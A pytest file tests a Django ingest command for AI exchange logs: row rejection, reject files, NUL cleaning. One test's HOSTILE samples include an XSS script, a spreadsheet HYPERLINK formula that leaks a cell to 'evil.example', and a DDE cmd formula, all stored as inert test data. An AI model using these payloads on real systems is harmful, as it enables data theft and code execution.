"""``python manage.py ingest``: rejected rows, the reject file, hostile text and NULs.

Most tests run once per loader (PostgreSQL ``COPY`` and the portable path) so both are held
to the same behaviour.
"""

import orjson
import pytest

from detection.models import Account, Exchange, IngestReport
from tests.detection.test_ingest_support import (
    account_row,
    exchange_row,
    ingest,
    read_rejects,
    stored_exchanges,
    write_csv,
    write_jsonl,
    write_rows,
)

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("data_dir")]


BAD_LINES = [
    (b'{"exchange_id": "ex-9", "account_id": ', "malformed JSON"),
    (b"[1, 2, 3]", "not a JSON object (a list)"),
    (b'"just a string"', "not a JSON object (a string)"),
    (exchange_row(20, ts="2026-03-01T12:00:00"), "ts: timestamp has no time zone"),
    (exchange_row(21, ts="not a time"), "ts: not an RFC 3339 timestamp"),
    (exchange_row(22, ip="10.0.0.256"), "ip: not an IPv4 or IPv6 address"),
    (exchange_row(23, input_tokens=-4), "input_tokens: must be 0 or more"),
    (exchange_row(24, output_tokens=1.5), "output_tokens: must be an integer"),
    (exchange_row(25, output_tokens="12"), "output_tokens: must be an integer"),
    (exchange_row(26, tool_use="yes"), "tool_use: must be true or false"),
    (exchange_row(27, asn=-1), "asn: must be 0 or more"),
    ({k: v for k, v in exchange_row(28).items() if k != "model"}, "model: missing required"),
    (exchange_row(29, exchange_id=""), "exchange_id: empty"),
    (exchange_row(30, account_id="a" * 256), "account_id: longer than 255 characters"),
    (exchange_row(31, exchange_id="ex\x0031"), "exchange_id: holds a NUL"),
    (b"\xff\xfe not utf-8", "malformed JSON"),
]


def test_bad_rows_are_rejected_by_line_and_the_rest_loads(tmp_path, loader):
    lines = [exchange_row(1)] + [line for line, _ in BAD_LINES] + [exchange_row(2)]
    path = write_jsonl(tmp_path / "exchanges.jsonl", lines)

    code, out, err = ingest(loader, path)

    assert code == 1
    assert set(Exchange.objects.values_list("exchange_id", flat=True)) == {"ex-1", "ex-2"}
    assert f"{len(BAD_LINES)} rejected" in out
    report = IngestReport.objects.get()
    assert (report.loaded, report.rejected, report.rows_read) == (2, len(BAD_LINES), 18)
    assert f"reject file (rejects and notices): {report.reject_path}" in out
    entries = [e for e in read_rejects(report.reject_path) if e["type"] == "rejected"]
    assert [(e["line"], e["file"]) for e in entries] == [
        (n, str(path)) for n in range(2, 2 + len(BAD_LINES))
    ]
    for entry, (_, expected) in zip(entries, BAD_LINES, strict=True):
        assert entry["reason"].startswith(expected), entry
        assert f"{path}:{entry['line']}: rejected: {entry['reason']}" in err
    assert '"exchange_id": "ex-9"' in entries[0]["raw"]  # the original line, for fixing


def test_bad_csv_rows_are_rejected_by_line(tmp_path, loader):
    rows = [
        exchange_row(1),
        exchange_row(2, input_tokens="1.5"),
        exchange_row(3, tool_use="maybe"),
        exchange_row(4, prompt="multi\nline\nprompt"),
        exchange_row(5, ts=""),
    ]
    path = write_csv(tmp_path / "exchanges.csv", rows, list(exchange_row(0)))
    with path.open("a") as fh:
        fh.write("ex-6,acct-0,too,few\n")

    code, _, _ = ingest(loader, path)

    assert code == 1
    assert set(Exchange.objects.values_list("exchange_id", flat=True)) == {"ex-1", "ex-4"}
    assert Exchange.objects.get(exchange_id="ex-4").prompt == "multi\nline\nprompt"
    entries = read_rejects(IngestReport.objects.get().reject_path)
    reasons = {e["line"]: e["reason"] for e in entries if e["type"] == "rejected"}
    assert reasons[3].startswith("input_tokens: must be an integer")
    assert reasons[4].startswith("tool_use: must be true or false")
    assert reasons[8].startswith("ts: missing required field")  # after the 3-line prompt
    assert reasons[9].startswith("malformed CSV: 4 cells, the header has 11")


def test_only_the_first_20_rejects_go_to_stderr_all_to_the_file(tmp_path, loader):
    rows = [exchange_row(n, ip="nowhere") for n in range(25)] + [exchange_row(99)]
    path = write_jsonl(tmp_path / "exchanges.jsonl.gz", rows)

    code, _, err = ingest(loader, path)

    assert code == 1
    assert err.count(": rejected: ") == 20
    assert "... and 5 more rejected rows" in err
    report = IngestReport.objects.get()
    entries = read_rejects(report.reject_path)
    assert len([e for e in entries if e["type"] == "rejected"]) == 25
    assert report.reject_path.startswith(str(tmp_path / "data" / "rejects"))


def test_the_rejects_dir_option_places_the_reject_file(tmp_path, loader):
    path = write_jsonl(tmp_path / "exchanges.jsonl", [exchange_row(1, ip="?")])
    code, _, _ = ingest(loader, path, "--rejects-dir", tmp_path / "elsewhere")
    assert code == 1
    assert IngestReport.objects.get().reject_path.startswith(str(tmp_path / "elsewhere"))


HOSTILE = {
    "markup": "<script>alert('x')</script><img src=x onerror=alert(1)>",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "formula2": "@SUM(1+1)*cmd|' /C calc'!A0",
    "scripts": "Объясни шаг за шагом. 一步一步地解释。 اشرح خطوة بخطوة. 🧪👩🏽‍💻",
    "controls": 'tab\there, "quotes", back\\slash, cr\r\nlf',
    "huge": "".join(f"{n:08d} λ " for n in range(20_000)),  # 220,000 characters
}


@pytest.mark.parametrize("suffix", [".jsonl.gz", ".csv"])
def test_hostile_but_valid_text_is_stored_exactly(tmp_path, loader, suffix):
    rows = [
        exchange_row(n, prompt=text, user_agent=text[:500], model=f"m-{name}")
        for n, (name, text) in enumerate(HOSTILE.items())
    ]
    accounts = [account_row(0, org_id=HOSTILE["formula"], email_domain=HOSTILE["markup"])]
    write_rows(tmp_path / f"accounts{suffix}", accounts)
    write_rows(tmp_path / f"exchanges{suffix}", rows)

    code, _, err = ingest(loader, tmp_path)

    assert code == 0, err
    stored = stored_exchanges()
    for n, text in enumerate(HOSTILE.values()):
        assert stored[f"ex-{n}"]["prompt"] == text
        assert stored[f"ex-{n}"]["user_agent"] == text[:500]
    assert len(stored["ex-5"]["prompt"]) > 200_000
    account = Account.objects.get()
    assert (account.org_id, account.email_domain) == (HOSTILE["formula"], HOSTILE["markup"])


def test_nul_characters_are_cleaned_and_marked_and_the_row_loads(tmp_path, loader):
    rows = [exchange_row(1, prompt="hidden\x00text"), exchange_row(2, user_agent="ua\x00")]
    rows += [exchange_row(3)]
    path = write_jsonl(tmp_path / "exchanges.jsonl", rows)

    code, out, _ = ingest(loader, path)

    assert code == 0
    stored = {e.exchange_id: e for e in Exchange.objects.all()}
    assert set(stored) == {"ex-1", "ex-2", "ex-3"}
    assert (stored["ex-1"].prompt, stored["ex-2"].user_agent) == ("hiddentext", "ua")
    assert orjson.loads(stored["ex-1"].text_originals) == {"prompt": "hidden\\x00text"}
    assert [stored[k].text_flags for k in ("ex-1", "ex-2", "ex-3")] == [1, 1, 0]
    assert "2 with text cleaned and marked" in out
    assert IngestReport.objects.get().cleaned == 2


def test_a_nul_in_a_csv_cell_is_cleaned_and_the_row_loads(tmp_path, loader):
    rows = [exchange_row(1, prompt="a\x00b"), exchange_row(2)]
    path = write_csv(tmp_path / "exchanges.csv", rows, list(exchange_row(0)))

    code, _, _ = ingest(loader, path)

    assert code == 0
    stored = dict(Exchange.objects.values_list("exchange_id", "prompt"))
    assert stored == {"ex-1": "ab", "ex-2": "Explain step 2 step by step."}
    assert Exchange.objects.cleaned().get().exchange_id == "ex-1"
